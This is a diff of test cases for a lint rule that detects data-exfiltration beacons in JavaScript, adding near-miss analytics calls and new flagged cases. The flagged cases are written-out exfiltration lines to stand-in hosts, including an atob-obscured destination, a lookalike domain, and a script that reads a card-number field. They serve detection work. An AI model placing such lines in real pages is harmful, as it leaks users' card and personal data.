@@ -7,10 +7,16 @@ ruleTable(rule, {
     "fetch('/api/cart', {method:'POST', body: JSON.stringify(cart)});",
     "img.src = '/static/' + name + '.png';",
     "fetch(url, {method: 'POST', body: data});",
+    // near misses: analytics beacons of their own run-time data to their own host
+    { name: 'GA-style collect pixel', code: "new Image().src = 'https://www.google-analytics.com/collect?v=1&tid=' + tid + '&cid=' + cid + '&dl=' + encodeURIComponent(location.href);" },
+    { name: 'RUM beacon', code: "navigator.sendBeacon('https://rum.vendor.example/v1/input', JSON.stringify(metrics));" },
   ],
   invalid: [
-    { code: "new Image().src = 'https://stats.example/p.gif?d=' + data;", messageIds: ['beacon'], severity: 'medium' },
+    { code: "new Image().src = 'https://stats.example/p.gif?d=' + data;", messageIds: ['beacon'], severity: 'low' },
     { code: "navigator.sendBeacon('https://b.example/c', payload);", messageIds: ['beacon'] },
     { code: "var x = new XMLHttpRequest(); x.open('POST', 'https://c.example/x'); x.send(body);", messageIds: ['beacon'] },
+    { name: 'hidden destination', code: "navigator.sendBeacon(atob('aHR0cHM6Ly9iLmV4YW1wbGUvYw=='), payload);", messageIds: ['beacon'], severity: 'medium' },
+    { name: 'lookalike destination', code: "navigator.sendBeacon('https://google-analytics-cdn.example/c', payload);", messageIds: ['beacon'], severity: 'medium' },
+    { name: 'script also reads the card', code: "var n = document.getElementById('cc-number').value; new Image().src = 'https://stats.example/p.gif?d=' + data;", messageIds: ['beacon'], severity: 'medium' },
   ],
 });
